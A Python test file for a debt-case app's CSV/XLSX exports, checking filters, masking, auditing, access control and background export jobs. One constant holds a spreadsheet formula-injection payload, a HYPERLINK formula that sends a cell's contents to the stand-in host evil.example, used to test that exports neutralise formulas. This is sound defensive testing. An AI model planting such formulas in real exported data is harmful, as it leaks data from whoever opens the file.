"""The lists people work from download as CSV and XLSX: exactly the rows the page's filters select, every
page of them, as the page shows them (masked where it masks), never a formula, every download audited; a
long list is written by the `exports` job and downloaded from the exports page by its asker only."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from tests.support.crowd import add_cases
from tests.support.floor import MORNING, Floor, floor_national_id
from tests.support.messaging import use_settings
from tests.support.web import bearer, login_client

from huikuan.errors import NotFound
from huikuan.services import export_requests
from huikuan.services.access import get_viewer
from huikuan.services.case_filter import CaseFilter
from huikuan.services.export_requests import export_list, export_request_file, run_export_requests
from huikuan.services.queue import QueueQuery, queue_page
from huikuan.services.users import add_user
from huikuan.storage import tables as t
from huikuan.web.app import create_app

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # UTF-8 with BOM: Excel reads the Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _bank_id(floor: Floor) -> int:
    c = t.creditors.c
    return int(floor.uow.session.execute(select(c.id).where(c.code == "BANK")).scalar_one())


@pytest.fixture
def docs(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    use_settings(monkeypatch, documents_dir=str(tmp_path / "docs"))
    return tmp_path / "docs"


@pytest.fixture
def app(floor: Floor, db_env: str, docs: Path) -> FastAPI:  # noqa: ARG001 - the store's folder first
    return create_app(db_env)


def test_the_team_queues_export_holds_every_page_of_what_its_filters_select(floor: Floor, docs: Path) -> None:
    add_cases(floor.uow, "BANK", 230)
    add_cases(floor.uow, "SHOP", 20)
    sue, bank = floor.viewer("sue"), str(_bank_id(floor))
    params = {"all": "1", "creditor": bank, "sort": "balance", "page": "2"}
    done = export_list(floor.uow, sue, "queue", "csv", params, "en")
    assert done.file is not None and done.request_id is None
    rows = _csv(done.file.data)
    assert rows[0][:3] == ["Case", "Debtor", "Creditor"]
    paged, page = [], 1
    while True:  # the page's own rows, page after page, for the same filters
        ask = QueueQuery(team=True, narrow=CaseFilter.parse(params), sort="balance", page=page, per_page=50)
        shown = queue_page(floor.uow, sue, ask=ask)
        paged += [str(item.case_id) for item in shown.items]
        if page >= shown.paging.pages:
            break
        page += 1
    assert [row[0] for row in rows[1:]] == paged and len(paged) == 233  # BANK's 3 + 230, in the page's order
    assert done.file.rows == 233 and done.file.filename.startswith("queue-")


def test_a_debtor_named_like_a_formula_comes_out_as_text_in_csv_and_xlsx(floor: Floor, docs: Path) -> None:
    floor.uow.session.execute(
        update(t.debtors).where(t.debtors.c.id == floor.cases[0].debtor_id).values(name=EVIL)
    )
    floor.uow.commit()
    vic = floor.viewer("vic")
    data = export_list(floor.uow, vic, "portfolio", "csv", {}, "en").file
    assert data is not None
    assert ["'" + EVIL] == [row[1] for row in _csv(data.data)[1:] if "HYPERLINK" in row[1]]
    book = export_list(floor.uow, vic, "portfolio", "xlsx", {}, "zh_CN").file
    assert book is not None
    sheet = openpyxl.load_workbook(io.BytesIO(book.data)).active
    assert sheet is not None
    cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert cells[0][:3] == ["案件", "债务人", "欠款余额"]  # headers in the viewer's language
    assert "'" + EVIL in [row[1] for row in cells[1:]]
    assert 12000 in [row[2] for row in cells[1:]]  # money as a number


def test_the_search_export_keeps_the_masks_of_the_search_page(floor: Floor, docs: Path) -> None:
    found = export_list(floor.uow, floor.viewer("sue"), "search", "csv", {"q": "测试债务人"}, "en").file
    assert found is not None
    text = found.data.decode("utf-8-sig")
    rows = _csv(found.data)
    assert rows[0][-2:] == ["National ID", "Phone"] and len(rows) > 1
    for n in (1, 2, 3, 4):
        assert floor_national_id(n) not in text and f"+86138{n:08d}" not in text
    assert all("*" in row[-2] for row in rows[1:])


def test_every_export_is_audited_with_its_list_filters_and_count_never_its_data(
    floor: Floor, docs: Path
) -> None:
    sue = floor.viewer("sue")
    export_list(floor.uow, sue, "queue", "xlsx", {"all": "1", "stage": "new", "junk": "x"}, "en")
    export_list(floor.uow, sue, "search", "csv", {"q": "测试债务人1"}, "en")
    e = t.audit_events.c
    events = floor.uow.session.execute(
        select(e.user_id, e.detail).where(e.action == "export.downloaded").order_by(e.id)
    ).all()
    assert [(user, detail["list"], detail["format"], detail["filters"]) for user, detail in events] == [
        (floor.users["sue"], "queue", "xlsx", {"all": "1", "stage": "new"}),
        (floor.users["sue"], "search", "csv", {"q": "…"}),  # what was searched is not kept
    ]
    assert events[0].detail["rows"] == 4 and "测试" not in str(events)


def test_the_floor_has_no_portfolio_to_export_and_the_viewer_no_queue(app: FastAPI) -> None:
    assert login_client(app, "alice").get("/exports/portfolio.csv").status_code == 403
    assert login_client(app, "vic").get("/exports/queue.csv").status_code == 403
    api = TestClient(app)
    assert api.get("/api/v1/exports/audit.csv", headers=bearer(app, "alice")).status_code == 403


def test_the_viewer_downloads_its_portfolio_from_the_page_and_the_api(app: FastAPI, floor: Floor) -> None:
    vic = login_client(app, "vic")
    page = vic.get("/portfolio?page=1")
    assert 'href="/exports/portfolio.csv"' in page.text and 'href="/exports/portfolio.xlsx"' in page.text
    got = vic.get("/exports/portfolio.csv")
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert "attachment" in got.headers["content-disposition"]
    cases = {row[0] for row in _csv(got.content)[1:]}
    assert cases == {str(c.id) for c in floor.cases}  # none of SHOP's
    api = TestClient(app).get("/api/v1/exports/portfolio.xlsx", headers=bearer(app, "vic"))
    assert api.status_code == 200 and api.content[:2] == b"PK"


def test_a_list_past_the_threshold_is_written_by_the_job_and_only_its_asker_downloads_it(
    app: FastAPI, floor: Floor, monkeypatch: pytest.MonkeyPatch, docs: Path
) -> None:
    use_settings(monkeypatch, documents_dir=str(docs), export_rows_at_once="2")
    sue = login_client(app, "sue")
    asked = sue.get("/exports/queue.csv?all=1", follow_redirects=False)
    assert asked.status_code == 303 and asked.headers["location"].startswith("/exports#export-")
    request_id = int(asked.headers["location"].rsplit("-", 1)[1])
    page = sue.get("/exports")
    assert f'data-testid="export-request-{request_id}" data-status="queued"' in page.text
    assert f"/exports/requests/{request_id}/file" not in page.text
    assert run_export_requests(floor.uow, MORNING) == {"done": 1, "failed": 0, "rows": 4}
    row = sue.get(f"/exports/requests/{request_id}")
    assert 'data-status="done"' in row.text and 'value="100"' in row.text
    got = sue.get(f"/exports/requests/{request_id}/file")
    assert got.status_code == 200 and len(_csv(got.content)) == 5
    assert login_client(app, "bob").get(f"/exports/requests/{request_id}/file").status_code == 404
    client, key = TestClient(app), bearer(app, "sue")
    api = client.get("/api/v1/exports/queue.csv?all=1", headers=key)
    assert api.status_code == 202 and api.json()["request"]["status"] == "queued"
    assert api.json()["request"]["filters"] == {"all": "1"} and api.json()["request"]["file"] is None
    floor.uow.rollback()  # a fresh read, as the job's own unit of work has
    run_export_requests(floor.uow, MORNING)
    followed = client.get(f"/api/v1/exports/requests/{api.json()['request']['id']}", headers=key).json()
    assert (followed["status"], followed["percent"], followed["rows_done"]) == ("done", 100, 4)
    assert len(_csv(client.get(followed["file"], headers=key).content)) == 5
    assert client.get(followed["file"], headers=bearer(app, "alice")).status_code == 404
    e = t.audit_events.c
    audited = (
        floor.uow.session.execute(select(e.detail).where(e.action == "export.downloaded")).scalars().all()
    )
    assert [d["rows"] for d in audited] == [4, 4]  # each job's file, once written


def test_the_export_links_carry_the_pages_filters_but_not_its_page_number(app: FastAPI) -> None:
    page = login_client(app, "sue").get("/queue?all=1&stage=new&page=1")
    assert 'href="/exports/queue.csv?all=1&amp;stage=new"' in page.text


def test_another_creditors_viewer_finds_no_export_request_of_someone_else(floor: Floor, docs: Path) -> None:
    add_user(floor.uow, "sam", "another-password-1", role="creditor_viewer", creditor_code="SHOP")
    floor.uow.commit()
    sam = get_viewer(
        floor.uow,
        floor.uow.session.execute(select(t.users.c.id).where(t.users.c.username == "sam")).scalar_one(),
    )
    with pytest.raises(NotFound):
        export_request_file(floor.uow, sam, 1)


def test_a_running_export_shows_how_far_the_job_has_come(
    app: FastAPI, floor: Floor, monkeypatch: pytest.MonkeyPatch, docs: Path
) -> None:
    use_settings(monkeypatch, documents_dir=str(docs), export_rows_at_once="2")
    monkeypatch.setattr(export_requests, "PROGRESS_EVERY", 2)
    sue = floor.viewer("sue")
    asked = export_list(floor.uow, sue, "queue", "csv", {"all": "1"}, "en")
    assert asked.request_id is not None
    rows = export_requests._counted(floor.uow, asked.request_id, iter([{"case": n} for n in range(3)]))
    next(rows), next(rows), next(rows)  # the second row's progress is written once the third is asked for
    shown = export_requests.export_request(floor.uow, sue, asked.request_id)
    assert (shown["status"], shown["rows_done"], shown["rows_total"], shown["percent"]) == (
        "queued",
        2,
        4,
        50,
    )
    page = login_client(app, "sue").get(f"/exports/requests/{asked.request_id}")
    assert 'value="50"' in page.text and "2 of 4 rows" in page.text and 'hx-trigger="every 2s"' in page.text
